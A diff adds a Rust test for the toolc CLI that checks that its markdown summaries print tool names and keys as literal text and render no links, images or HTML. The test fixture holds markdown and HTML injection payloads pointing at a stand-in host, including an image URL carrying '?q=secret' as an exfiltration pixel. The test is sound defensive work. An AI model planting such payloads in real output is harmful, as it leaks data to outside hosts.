@@ -47,3 +47,63 @@ fn check_diff_prints_no_workflow_command_or_escape_sequence() {
         "{text}"
     );
 }
+
+/// Every construct GitHub would render from `markdown` that toolc does not write itself: a
+/// link other than to a rule's page, an image, HTML other than the folded list's, and text
+/// GitHub would link on its own (a bare URL).
+fn rendered_from_content(markdown: &str) -> Vec<String> {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
+    let own_html = ["<details>", "<summary>", "</summary>", "</details>", "<br>"];
+    let mut found = Vec::new();
+    for event in Parser::new_ext(markdown, options) {
+        match event {
+            Event::Start(Tag::Link { dest_url, .. })
+                if !dest_url.starts_with("https://github.com/toolc/toolc/blob/main/rules/") =>
+            {
+                found.push(format!("link to {dest_url}"));
+            }
+            Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("image {dest_url}")),
+            Event::Html(h) | Event::InlineHtml(h) => {
+                let h = h.trim();
+                if !own_html.iter().any(|own| h.starts_with(own)) {
+                    found.push(format!("HTML {h}"));
+                }
+            }
+            Event::Text(t) if t.contains("://") || t.contains("www.") => {
+                found.push(format!("bare URL in {t}"));
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+/// Row 13: `check --format markdown` and `diff --stat --format markdown` (pasted into a job
+/// summary) show names and keys holding links, images and HTML as written, never rendered.
+#[test]
+fn markdown_summaries_render_nothing_a_file_wrote() {
+    let name = "![px](https://evil.example/t.png?q=secret)<img src=https://evil.example/i.png>[click](https://evil.example)";
+    let cycod = format!(
+        "name: \"{name}\"\ndescription: d\nbash: echo hi\ntags: [read]\n\"x`![i](https://evil.example/a.png)`y\": 1\nwww.evil.example: 2\n"
+    );
+    let repo = repo();
+    repo.write(".cycod/tools/t.yaml", cycod.as_bytes());
+    let output = run(&repo, &["check", "--format", "markdown"]);
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert!(text.contains("evil.example"), "the names are shown: {text}");
+    let found = rendered_from_content(&text);
+    assert!(found.is_empty(), "{found:#?}\n{text}");
+
+    // The diff's table: a tool of that name removed since the old folder.
+    repo.write("old/.cycod/tools/t.yaml", cycod.as_bytes());
+    std::fs::remove_file(repo.root.join(".cycod/tools/t.yaml")).expect("rm");
+    let output = run(
+        &repo,
+        &["diff", "--against", "old", "--stat", "--format", "markdown"],
+    );
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert!(text.contains("evil.example"), "the name is shown: {text}");
+    let found = rendered_from_content(&text);
+    assert!(found.is_empty(), "{found:#?}\n{text}");
+}
